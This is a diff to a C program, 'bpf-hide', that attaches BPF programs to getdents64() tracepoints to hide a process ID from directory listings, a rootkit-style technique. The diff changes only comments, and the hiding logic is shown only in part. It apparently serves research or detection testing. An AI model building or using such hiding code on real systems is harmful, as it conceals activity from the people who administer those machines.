@@ -1,8 +1,8 @@
 // SPDX-License-Identifier: GPL-2.0-or-later
 /*
- * bpf-hide PID: takes PID out of what getdents64() answers, by two BPF programs at its
- * tracepoints, until it is killed. Prints "ready" when they are attached. As some real
- * rootkits do, it lengthens the entry before: a process that is the first of an answer stays.
+ * bpf-hide PID: removes PID from the results of getdents64(), by two BPF programs at its
+ * tracepoints, until it is killed. Prints "ready" when they are attached. Like some real rootkits
+ * it lengthens the entry before. A process that is the first entry of a result stays visible.
  */
 #include <fcntl.h>
 #include <linux/bpf.h>
@@ -31,16 +31,16 @@
 #define JMPI(op, d, i, o) INSN(BPF_JMP | (op) | BPF_K, d, 0, o, i)
 #define GOTO(o) INSN(BPF_JMP | BPF_JA, 0, 0, o, 0)
 #define MAP(d, fd) INSN(BPF_LD | BPF_DW | BPF_IMM, d, BPF_PSEUDO_MAP_FD, 0, fd), INSN(0, 0, 0, 0, 0)
-/* A place to jump to; jumps name it in place of their distance. */
+/* A jump target. A jump's offset is its label's number until resolve() replaces it. */
 #define LABEL(l) INSN(0xff, 0, 0, 0, l)
 #define EXIT INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0)
 enum { OUT = 1, LOOP, NEXT, NR_LABELS };
 enum { R0, R1, R2, R3, R4, R5, R6, R7, R8, R9, FP };
 
-/* Arguments of a system call's tracepoint lie behind its number, the result in its place. */
+/* Offsets at a tracepoint: arguments follow the call's number; the result is at the first one's. */
 #define TP_ARG(n) (16 + 8 * (n))
 #define TP_RET 16
-/* In struct linux_dirent64 d_reclen is at 16, d_name at 19. So many entries are looked at: */
+/* Entries to search in one result. In struct linux_dirent64 d_reclen is at 16, d_name at 19. */
 #define ENTRIES 500
 
 static long bpf(int cmd, union bpf_attr *attr)
@@ -54,7 +54,7 @@ static void die(const char *what)
 	exit(1);
 }
 
-/* Take the labels out of @code of @nr instructions; returns how many are left. */
+/* Remove the labels from @code (@nr instructions). Returns the number of instructions left. */
 static size_t resolve(struct bpf_insn *code, size_t nr)
 {
 	size_t at[NR_LABELS] = { 0 }, n = 0;
@@ -136,8 +136,8 @@ int main(int argc, char **argv)
 		EXIT,
 	};
 	/*
-	 * R6: the entry, R7: the end of the answer, R8: the entry before it, R9: entries left. On
-	 * the stack: -8 the key, -16 the name, -24 d_reclen, -32 that of R8, -40 its new one.
+	 * R6: the entry, R7: the end of the result, R8: the previous entry, R9: entries left. On the
+	 * stack: -8 the key, -16 the name, -24 d_reclen, -32 d_reclen of R8, -40 its new d_reclen.
 	 */
 	struct bpf_insn leave[] = {
 		LOAD(BPF_DW, R7, R1, TP_RET),
